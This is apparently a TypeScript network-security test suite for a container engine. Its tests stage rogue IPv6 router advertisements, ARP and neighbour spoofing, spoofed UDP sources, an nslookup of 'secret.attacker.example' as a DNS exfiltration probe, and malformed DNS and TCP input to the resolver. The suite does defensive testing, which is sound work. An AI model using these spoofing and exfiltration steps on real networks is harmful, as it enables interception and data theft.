/** Rows NET: networks, with network namespaces as neighbours and attackers. The engine is in one of its own, too. */
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { readFileSync } from "node:fs";
import { after } from "node:test";
import { neighbour, somebody, type Somebody } from "../fixtures/agent.ts";
import { advertisementFrame, arpFrame, routerFrame, udpFrame } from "../fixtures/frames.ts";
import { inOwnNetwork } from "../fixtures/network-host.ts";
import { attacks, compiled, type Scene } from "./attack.ts";

const SHUT = "ECONNREFUSED";
const SOON = 300;
const LATE = 20_000;

await inOwnNetwork(import.meta.url, async () => {
  const ip = (...args: string[]) => execFileSync("ip", args, { encoding: "utf8" });
  const nft = (...args: string[]) => execFileSync("nft", args, { encoding: "utf8" });
  ip("link", "set", "lo", "up");
  const far = await neighbour();
  await far.serves(80, 81);
  const { attack } = attacks("network");
  const started: Somebody[] = [];
  after(() => Promise.all(started.map((one) => one.end())));

  /** A container that sleeps, and somebody in its network namespace. */
  async function box({ cli, evil }: Scene, name: string, ...flags: string[]): Promise<Somebody & { address: string }> {
    image ??= await evil([{ path: "bin/frames", mode: 0o755, data: compiled("frames.c") }]);
    await cli.ok("run", "-d", "--name", name, ...flags, image, "sleep", "600");
    const inside = await somebody(name, Number(await cli.ok("inspect", "-f", "{{.State.Pid}}", name)));
    started.push(inside);
    const address = /inet (\d+\.\d+\.\d+\.\d+)/.exec(inside.runs("ip -4 address show eth0"))![1]!;
    return { ...inside, address };
  }
  let image: string | undefined;
  const macOf = (one: Somebody) => /ether (\S+)/.exec(one.runs("ip link show eth0"))![1]!;
  const linkLocalOf = (one: Somebody) => /inet6 (fe80\S+)\//.exec(one.runs("ip -6 address show eth0"))![1]!;
  const bridgeOf = ({ engine }: Scene) => engine.place.bridge;
  const until = async (good: () => boolean | Promise<boolean>) => {
    for (const end = Date.now() + LATE; !(await good()); ) assert.ok(Date.now() < end, "it did not become so");
  };

  attack("NET-01 a container that says it is a router is not believed", async (scene) => {
    const { cli } = scene;
    await cli.ok("network", "create", "--ipv6", "--subnet", "10.50.1.0/24", "--subnet", "fd50:1::/64", "six");
    const [evil, victim, credulous] = [await box(scene, "evil", "--network", "six"), await box(scene, "victim", "--network", "six"), await box(scene, "credulous", "--network", "six")];
    assert.equal(victim.runs("cat /proc/sys/net/ipv6/conf/eth0/accept_ra").trim(), "0");
    credulous.runs("echo 2 > /proc/sys/net/ipv6/conf/eth0/accept_ra");
    const [before, hostBefore] = [victim.runs("ip -6 route; ip -6 address"), ip("-6", "route")];
    const frame = routerFrame({ mac: macOf(evil), from: linkLocalOf(evil), prefix: "2001:db8:bad::" });
    await cli.ok("exec", "evil", "sh", "-c", `echo ${frame} | frames eth0`);
    await until(() => credulous.runs("ip -6 address").includes("2001:db8:bad"));
    assert.equal(victim.runs("ip -6 route; ip -6 address"), before);
    assert.equal(ip("-6", "route"), hostBefore);
    await cli.ok("rm", "-f", "evil", "victim", "credulous");
    await cli.ok("network", "rm", "six");
  });

  attack("NET-02 a network without IPv6 has none", async (scene) => {
    const { cli } = scene;
    await cli.ok("network", "create", "--subnet", "10.50.2.0/24", "four");
    for (const flags of [[], ["--network", "four"]]) {
      const a = await box(scene, "web", ...flags);
      assert.equal(a.runs("cat /proc/sys/net/ipv6/conf/eth0/disable_ipv6").trim(), "1");
      assert.ok(!a.runs("cat /proc/net/if_inet6").includes("eth0"));
      await cli.ok("rm", "-f", "web");
    }
    await cli.ok("network", "rm", "four");
  });

  attack("NET-03 an internal network asks nobody outside for names", async (scene) => {
    const { cli } = scene;
    await far.order({ dns: { "secret.attacker.example": "198.51.100.2" } });
    await cli.ok("network", "create", "--internal", "--subnet", "10.50.3.0/24", "inner");
    await cli.ok("network", "create", "outer");
    const [inner, outer] = [await box(scene, "inner", "--network", "inner", "--dns", "198.51.100.2"), await box(scene, "outer", "--network", "outer", "--dns", "198.51.100.2")];
    const look = (name: string) => cli("exec", name, "nslookup", "secret.attacker.example");
    assert.notEqual((await look("inner")).code, 0);
    assert.equal(await far.order({ heard: -1 }), "", "not a query");
    assert.match((await look("outer")).stdout, /198\.51\.100\.2/);
    assert.match(await far.order({ heard: -1 }), /secret\.attacker\.example/);
    assert.equal((await cli("exec", "inner", "nslookup", "inner")).code, 0, "its own names it knows");
    inner.runs("ip route add default via 10.50.3.1");
    assert.equal(await inner.asks("198.51.100.2", 80, SOON), "nothing");
    assert.equal(await outer.asks("198.51.100.2", 80), "far 198.51.100.1");
    await cli.ok("rm", "-f", "inner", "outer");
    await cli.ok("network", "rm", "inner", "outer");
  });

  attack("NET-04 rules that somebody flushed come back: loopback ports, isolation, published ports", async (scene) => {
    const { cli, engine } = scene;
    await cli.ok("network", "create", "--subnet", "10.50.4.0/24", "other");
    const a = await box(scene, "web", "-p", "127.0.0.1:8080:80", "-p", "8081:80");
    const b = await box(scene, "next", "--network", "other");
    await Promise.all([a.serves(80), b.serves(80)]);
    const reached = () => Promise.all([
      far.asks("198.51.100.1", 8081), far.asks("198.51.100.1", 8080), far.asks(a.address, 80, SOON), b.asks(a.address, 80, SOON), a.asks(b.address, 80, SOON),
    ]);
    const good = ["web 198.51.100.2", SHUT, "nothing", "nothing", "nothing"];
    assert.deepEqual(await reached(), good);
    for (const command of ["flush ruleset", `delete table inet gantry-${bridgeOf(scene)}`]) {
      nft(command);
      await until(() => nft("list", "ruleset").includes("10.50.4.0/24"));
      assert.deepEqual(await reached(), good, command);
    }
    // The same while nobody looks: the engine puts it right when it starts.
    await engine.kill();
    nft("flush", "ruleset");
    await engine.start();
    assert.deepEqual(await reached(), good);
    ip("link", "delete", bridgeOf(scene));
    await until(async () => (await far.asks("198.51.100.1", 8081, SOON)).startsWith("web"));
    assert.deepEqual(await reached(), good);
    await cli.ok("rm", "-f", "web", "next");
    await cli.ok("network", "rm", "other");
  });

  attack("NET-05 a neighbour's routes lead neither to loopback ports nor to containers", async (scene) => {
    const a = await box(scene, "web", "-p", "127.0.0.1:8080:80", "-p", "8081:80");
    await a.serves(80, 82);
    far.runs(`sysctl -qw net.ipv4.conf.all.route_localnet=1; ip route add ${a.address}/32 via 198.51.100.1; ip address del 127.0.0.1/8 dev lo; ip route add 127.0.0.1 via 198.51.100.1`);
    const seen = await Promise.all([
      far.asks("127.0.0.1", 8080, SOON), far.asks(a.address, 80, SOON), far.asks(a.address, 82, SOON), far.asks("198.51.100.1", 8080), far.asks(`${scene.engine.place.subnet}.1`, 8080), far.asks("198.51.100.1", 8081),
    ]);
    assert.deepEqual(seen, ["nothing", "nothing", "nothing", SHUT, SHUT, "web 198.51.100.2"]);
    far.runs("ip route del 127.0.0.1 via 198.51.100.1; ip address add 127.0.0.1/8 dev lo");
  });

  attack("NET-05 who routes to a network finds what its gateway mode says: published ports, or all of them", async (scene) => {
    const { cli } = scene;
    const mode = "com.docker.network.bridge.gateway_mode_ipv4";
    await cli.ok("network", "create", "--subnet", "10.50.51.0/24", "-o", `${mode}=routed`, "routed");
    await cli.ok("network", "create", "--subnet", "10.50.52.0/24", "-o", `${mode}=nat-unprotected`, "bare");
    const [routed, bare] = [await box(scene, "routed", "--network", "routed", "-p", "8080:80"), await box(scene, "bare", "--network", "bare", "-p", "8081:80")];
    await Promise.all([routed.serves(80, 81), bare.serves(80, 81)]);
    const seen = await Promise.all([
      far.asks(routed.address, 80), far.asks(routed.address, 81, SOON), far.asks("198.51.100.1", 8080), far.asks(bare.address, 81), far.asks("198.51.100.1", 8081), routed.asks("198.51.100.2", 80), bare.asks("198.51.100.2", 80),
    ]);
    assert.deepEqual(seen, ["routed 198.51.100.2", "nothing", SHUT, "bare 198.51.100.2", "bare 198.51.100.2", `far ${routed.address}`, "far 198.51.100.1"]);
    await cli.ok("rm", "-f", "routed", "bare");
    await cli.ok("network", "rm", "routed", "bare");
  });

  attack("NET-06 a container never takes a client for itself", async (scene) => {
    const a = await box(scene, "web", "-p", "8080:80");
    const b = await box(scene, "next");
    await a.serves(80);
    const own = await somebody("host", process.pid);
    started.push(own);
    const gateway = `${scene.engine.place.subnet}.1`;
    const seen = await Promise.all([far.asks("198.51.100.1", 8080), far.asks("2001:db8::1", 8080), own.asks("127.0.0.1", 8080), own.asks("::1", 8080), b.asks(gateway, 8080), a.asks(gateway, 8080)]);
    assert.deepEqual(seen, ["web 198.51.100.2", `web ${gateway}`, `web ${gateway}`, `web ${gateway}`, `web ${gateway}`, `web ${gateway}`]);
  });

  attack("NET-07 there are no overlay networks, and nobody listens for their packets", async ({ cli }) => {
    const { code, stderr } = await cli("network", "create", "-d", "overlay", "spread");
    assert.notEqual(code, 0);
    assert.match(stderr, /overlay|swarm/i);
    const [vxlan] = [(4789).toString(16).toUpperCase()];
    assert.ok(!["udp", "udp6"].some((name) => readFileSync(`/proc/net/${name}`, "utf8").includes(`:${vxlan} `)));
  });

  attack("NET-08 without icc nothing passes between containers, and nobody takes another's address", async (scene) => {
    const { cli } = scene;
    await cli.ok("network", "create", "--ipv6", "--subnet", "10.50.8.0/24", "--subnet", "fd50:8::/64", "-o", "com.docker.network.bridge.enable_icc=false", "cells");
    const [evil, victim] = [await box(scene, "evil", "--network", "cells"), await box(scene, "victim", "--network", "cells")];
    await victim.serves(80);
    victim.runs("echo 1 > /proc/sys/net/ipv4/conf/eth0/arp_accept");
    assert.deepEqual(await Promise.all([victim.asks("10.50.8.1", 9), victim.asks("fd50:8::1", 9)]), [SHUT, SHUT]);
    const six = /inet6 (fd50:8\S+)\//.exec(victim.runs("ip -6 address show eth0"))![1]!;
    const neighbours = () => victim.runs("ip neighbour | grep -c lladdr || true; ip neighbour").replace(/ (REACHABLE|STALE|DELAY|PROBE)/g, "");
    const before = neighbours();
    const mac = macOf(evil);
    const frames = [arpFrame({ mac, address: "10.50.8.1" }), arpFrame({ mac, address: "10.50.8.77" }), advertisementFrame({ mac, address: "fd50:8::1" })];
    await cli.ok("exec", "evil", "sh", "-c", frames.map((frame) => `echo ${frame} | frames eth0`).join(";"));
    for (const [host, port] of [[victim.address, 80], [six, 80]] as const) assert.match(await evil.asks(host, port, SOON), /^(nothing|EHOSTUNREACH)$/);
    assert.equal(neighbours(), before, "nobody has told it who the gateway is");
    await cli.ok("rm", "-f", "evil", "victim");
    await cli.ok("network", "rm", "cells");
  });

  attack("NET-08 a container whose egress is limited sends in its own name only; without a limit it is as on Docker", async (scene) => {
    const { engine, cli } = scene;
    await cli.ok("network", "create", "--subnet", "10.50.9.0/24", "spoof");
    const free = await box(scene, "free", "--network", "spoof");
    const made = await engine.api("POST", "/containers/create?name=limited", { Image: image, Cmd: ["sleep", "600"], HostConfig: { NetworkMode: "spoof", Egress: { Default: "deny", Allow: ["203.0.113.1"] } } });
    assert.equal(made.status, 201, JSON.stringify(made.body));
    await cli.ok("start", "limited");
    const limited = await somebody("limited", Number(await cli.ok("inspect", "-f", "{{.State.Pid}}", "limited")));
    started.push(limited);
    await far.order({ heard: 7000 });
    const toMac = /link\/ether (\S+)/.exec(ip("link", "show", bridgeOfNetwork("10.50.9.1")))![1]!;
    const send = (name: string, from: Somebody, source: string) =>
      cli.ok("exec", name, "sh", "-c", `echo ${udpFrame({ mac: macOf(from), toMac, from: source, to: "198.51.100.2", port: 7000, text: `${name} ${source}` })} | frames eth0`);
    // Also when somebody has taken that table away, and it has come back.
    nft("delete", "table", "bridge", `gantry-${bridgeOf(scene)}`);
    await until(() => nft("list", "ruleset").includes("table bridge "));
    await send("limited", limited, free.address);
    await send("limited", limited, "10.50.9.200");
    await send("free", free, "10.50.9.201");
    await until(async () => (await far.order({ heard: 7000 })).includes("free 10.50.9.201"));
    assert.doesNotMatch(await far.order({ heard: 7000 }), /limited/);
    assert.equal(await limited.asks("198.51.100.2", 80), SHUT);
    await cli.ok("rm", "-f", "free", "limited");
    await cli.ok("network", "rm", "spoof");
  });

  attack("NET-09 nonsense asked of 127.0.0.11 does no harm", async (scene) => {
    const { cli } = scene;
    await cli.ok("network", "create", "names");
    const a = await box(scene, "web", "--network", "names");
    const query = "12340100000100000000000001610000010001";
    const random = (length: number) => Array.from({ length }, () => Math.floor(Math.random() * 256).toString(16).padStart(2, "0")).join("");
    const nonsense = [
      ...Array.from({ length: 300 }, (_, index) => random(index)), ...Array.from({ length: query.length / 2 }, (_, index) => query.slice(0, index * 2)),
      "1234010000010000000000003f" + "61".repeat(63), "123401000001000000000000c00c00010001", "123401000001000000000000c0ff00010001", "1234010000ff00ff00ff00ff016100", "1234810000010001000000000161000001000101610000010001",
    ];
    await a.order({ send: nonsense, to: "127.0.0.11", port: 53 });
    assert.match(await cli.ok("exec", "web", "nslookup", "web"), new RegExp(a.address.replaceAll(".", "\\.")));
    // TCP: a length that lies, and nothing behind it.
    await cli("exec", "web", "sh", "-c", "printf '\\377\\377abc' | nc -w 1 127.0.0.11 53; printf '\\0\\0' | nc -w 1 127.0.0.11 53");
    assert.match(await cli.ok("exec", "web", "nslookup", "web"), new RegExp(a.address.replaceAll(".", "\\.")));
    assert.equal(await cli.ok("inspect", "-f", "{{.State.Running}}", "web"), "true");
    await cli.ok("rm", "-f", "web");
    await cli.ok("network", "rm", "names");
  });

  attack("NET-10 one published port for one container after another: nobody is answered by another than who has it", async ({ cli }) => {
    const own = await somebody("host", process.pid);
    started.push(own);
    for (let turn = 0; turn < 12; turn++) {
      await cli.ok("run", "-d", "--name", `turn${turn}`, "-p", "8090:80", "box", "nc", "-ll", "-p", "80", "-e", "echo", String(turn));
      const answers: string[] = [];
      await until(async () => {
        const seen = await Promise.all([own.asks("127.0.0.1", 8090), far.asks("198.51.100.1", 8090), own.asks("::1", 8090)]);
        answers.push(...seen);
        return seen.every((answer) => answer.trim() === String(turn));
      });
      for (const answer of answers) assert.match(answer.trim(), new RegExp(`^(${turn}|E[A-Z]+|)$`));
      await cli.ok("rm", "-f", `turn${turn}`);
      assert.deepEqual(await Promise.all([own.asks("127.0.0.1", 8090), far.asks("198.51.100.1", 8090)]), [SHUT, SHUT]);
    }
  });

  function bridgeOfNetwork(gateway: string): string {
    return new RegExp(`inet ${gateway.replaceAll(".", "\\.")}/.* (\\S+)$`, "m").exec(ip("-4", "address"))![1]!;
  }
});
